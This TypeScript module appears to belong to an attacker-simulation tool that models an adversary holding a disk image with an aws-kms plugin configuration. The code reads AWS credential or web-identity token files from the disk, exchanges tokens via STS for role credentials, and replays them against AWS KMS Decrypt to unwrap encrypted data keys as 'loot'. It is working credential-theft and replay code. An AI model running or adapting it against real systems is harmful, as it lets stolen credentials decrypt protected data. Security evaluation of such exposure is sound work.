// The disk column against an `aws-kms` plugin: its configuration on the disk names the KMS endpoint, the key's
// encryption context and a credential file; when that file is on the disk too (an access key pair, or a web identity
// token that STS exchanges for credentials), the attacker replays it against KMS Decrypt from anywhere that reaches
// the endpoint - what a credential without network binding permits.
import { dirname, isAbsolute, relative, resolve } from 'node:path';
import { readFile } from 'node:fs/promises';
import { DecryptCommand, KMSClient } from '@aws-sdk/client-kms';
import { AssumeRoleWithWebIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import type { Loot } from '../loot.js';

export interface AwsKmsPluginBackend {
  type: 'aws-kms';
  region?: string;
  endpoint?: string;
  stsEndpoint?: string;
  encryptionContext?: Record<string, string>;
  credentials?: { type?: string; accessKeyIdFile?: string; secretAccessKeyFile?: string; roleArn?: string; webIdentityTokenFile?: string };
}

export async function reuseAwsKmsCredentials(b: AwsKmsPluginBackend, file: string, root: string, loot: Loot): Promise<void> {
  const c = b.credentials ?? {};
  const at = (p: string | undefined) => (p === undefined ? undefined : isAbsolute(p) ? p : resolve(dirname(file), p));
  const paths = (c.type === 'static' ? [at(c.accessKeyIdFile), at(c.secretAccessKeyFile)] : c.type === 'webIdentity' ? [at(c.webIdentityTokenFile)] : []).filter((p): p is string => !!p);
  if (paths.length === 0 || !b.region) return;
  if (paths.some((p) => relative(root, p).startsWith('..'))) {
    loot.notes.push(`${relative(root, file)}: aws-kms plugin config names credential files outside the disk`);
    return;
  }
  const read = async (p: string) => (await readFile(p, 'utf8').catch(() => '')).trim();
  const values = await Promise.all(paths.map(read));
  if (values.some((v) => !v)) return;
  const region = b.region;
  let credentials: () => Promise<{ accessKeyId: string; secretAccessKey: string; sessionToken?: string }>;
  if (c.type === 'static') {
    credentials = async () => ({ accessKeyId: values[0]!, secretAccessKey: values[1]! });
  } else {
    if (!c.roleArn) return;
    const sts = new STSClient({ region, ...(b.stsEndpoint ? { endpoint: b.stsEndpoint } : {}), credentials: async () => ({ accessKeyId: 'unused', secretAccessKey: 'unused' }) });
    credentials = async () => {
      const out = await sts.send(new AssumeRoleWithWebIdentityCommand({ RoleArn: c.roleArn, RoleSessionName: 'disk-attacker', WebIdentityToken: values[0]! }));
      return { accessKeyId: out.Credentials!.AccessKeyId!, secretAccessKey: out.Credentials!.SecretAccessKey!, sessionToken: out.Credentials!.SessionToken! };
    };
  }
  const kms = new KMSClient({ region, ...(b.endpoint ? { endpoint: b.endpoint } : {}), credentials, maxAttempts: 1 });
  const what = paths.map((p) => relative(root, p)).join(', ');
  loot.notes.push(`${relative(root, file)}: aws-kms plugin config with ${c.type} credentials on the disk (${what}); replayed against KMS Decrypt`);
  loot.oracles.push({
    name: `the KMS plugin's AWS ${c.type} credentials from the disk (${what}) replayed against KMS Decrypt`,
    async unwrap(o, _provider, signal) {
      const out = await kms.send(new DecryptCommand({ CiphertextBlob: o.encryptedDekSource, ...(b.encryptionContext ? { EncryptionContext: b.encryptionContext } : {}) }), { abortSignal: signal }).catch(() => undefined);
      return out?.Plaintext ? Buffer.from(out.Plaintext) : undefined;
    },
  });
}
